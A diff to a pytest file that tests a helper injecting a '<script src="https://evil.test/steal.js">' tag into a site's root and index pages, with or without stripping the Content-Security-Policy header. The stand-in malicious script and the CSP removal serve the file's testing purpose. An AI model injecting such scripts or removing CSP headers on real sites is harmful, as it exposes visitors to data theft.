@@ -32,14 +32,17 @@ def test_attackers_pages_have_no_policy() -> None:
 
 @pytest.mark.parametrize("policy", [True, False])
 def test_an_injected_script_is_all_that_changes(policy: bool) -> None:
-    """In the page, before its own; with the policy or without."""
+    """In the page, before its own; with the Content-Security-Policy or without, all other headers kept."""
     files = Client("bearer", "memory").pages()
     injected = inject(files, "https://evil.test/steal.js", policy=policy)
     assert injected.keys() == files.keys()
     changed = {path for path in files if files[path] != injected[path]}
     assert changed == {"/", "/index.html"}
     assert injected["/"].body.count(b'<script src="https://evil.test/steal.js"></script></head>') == 1
-    assert ("Content-Security-Policy" in injected["/"].headers) == policy
+    taken = set() if policy else {"Content-Security-Policy"}
+    for path in changed:
+        assert files[path].headers.keys() - injected[path].headers.keys() == taken
+        assert injected[path].headers.items() <= files[path].headers.items()
 
 
 @pytest.mark.parametrize(
